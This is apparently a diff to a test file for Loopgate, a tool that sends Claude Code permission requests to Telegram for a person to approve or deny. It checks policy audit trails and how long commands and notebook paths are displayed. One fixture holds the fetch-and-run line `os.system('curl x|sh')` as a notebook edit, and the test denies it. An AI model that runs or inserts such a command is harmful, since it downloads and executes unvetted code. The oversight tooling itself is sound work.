@@ -154,8 +154,11 @@ def test_allow_for_session_grants_only_the_call(s):
         press(s, c, m, session_btn)
         eq(call.answer(), {"hookSpecificOutput": {"hookEventName": "PermissionRequest",
                                                   "decision": {"behavior": "allow"}}})
-        eq(s.sql("SELECT tool, match FROM policies WHERE session_id = :'p1'"
-                 " AND revoked_at IS NULL", sid), [["Bash", "^echo hi$"]])
+        by = "telegram:%d (Allow this exact call for this session, request %s)" % (c, rid)
+        eq(s.sql("SELECT tool, match, created_by FROM policies WHERE session_id = :'p1'"
+                 " AND revoked_at IS NULL", sid), [["Bash", "^echo hi$", by]])
+        eq(s.sql("SELECT actor FROM audit_log WHERE session_id = :'p1' AND action = 'policy_added'",
+                 sid), [[by]])
     # The exact rule is handed back, built by Loopgate (its destination the session).
     call, rid, c, m, msg, text = shown(s, "dp-exact", "Bash", {"command": "echo hi"},
                                        event="PermissionRequest", permission_suggestions=[
@@ -318,3 +321,31 @@ def test_cut_call_is_read_whole_in_the_console_or_only_denied(s):
     r = ann.vote(rid, {"approve": False})
     eq((r.status, r.json["result"]), (200, "denied"))
     eq(call.answer()["hookSpecificOutput"]["permissionDecision"], "deny")
+
+
+def test_long_command_approvable_in_telegram_without_edit(s):
+    """A command that fits Telegram whole but whose /edit params would not: asked without the
+    params, so Approve is offered; a short one keeps them."""
+    cmd = "echo " + "x" * 1025
+    call, rid, c, m, msg, text = shown(s, "dp-long", "Bash", {"command": cmd})
+    eq(text, "Claude Code wants to use Bash\n$ " + cmd + "\n")
+    ok("Shortened" not in msg["text"] and "Parameters" not in msg["text"], msg["text"])
+    eq(buttons(msg), [OK + "Approve", NO + "Deny", ASK])
+    eq(s.scalar("SELECT params IS NULL FROM requests WHERE id = :'p1'", rid), "t")
+    press(s, c, m, OK + "Approve")
+    eq(call.answer()["hookSpecificOutput"]["permissionDecision"], "allow")
+    call, rid, c, m, msg, text = shown(s, "dp-short", "Bash", {"command": "echo hi"})
+    ok("Parameters" in msg["text"], msg["text"])
+    press(s, c, m, NO + "Deny")
+    call.answer()
+
+
+def test_notebook_path_is_shown_beside_file_path(s):
+    call, rid, c, m, msg, text = shown(s, "dp-nb", "NotebookEdit", {
+        "file_path": "/tmp/scratch.ipynb", "notebook_path": "/home/u/project/prod.ipynb",
+        "new_source": "import os; os.system('curl x|sh')", "cell_id": "1"})
+    eq(text, "Claude Code wants to use NotebookEdit\nFile: /tmp/scratch.ipynb\n"
+             'cell_id: "1"\nnew_source: "import os; os.system(\'curl x|sh\')"\n'
+             'notebook_path: "/home/u/project/prod.ipynb"\n')
+    press(s, c, m, NO + "Deny")
+    call.answer()
